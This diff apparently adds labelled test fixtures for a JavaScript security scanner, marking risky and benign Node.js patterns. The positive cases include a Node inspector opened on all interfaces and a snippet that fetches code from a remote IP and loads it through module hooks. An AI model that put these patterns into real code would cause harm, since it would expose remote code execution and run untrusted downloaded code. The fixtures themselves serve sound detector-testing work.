@@ -228,3 +228,13 @@ import(dec(process.argv[2]));
 //@ pos import() of a member of parsed input
 const cfg = JSON.parse(process.argv[2]);
 import(cfg.module);
+//@ pos the inspector opened on every interface
+require('inspector').open(9229, '0.0.0.0');
+//@ neg the inspector on its default host
+require('inspector').open(9229);
+//@ pos module.registerHooks in a program that downloads
+fetch('https://203.0.113.9/m.js').then((r) => r.text()).then((source) => {
+  require('module').registerHooks({ load: (url, ctx, next) => ({ format: 'commonjs', source, shortCircuit: true }) });
+});
+//@ neg a REPL with its own eval function
+require('repl').start({ prompt: '> ', eval: (cmd, ctx, file, cb) => cb(null, cmd.length) });
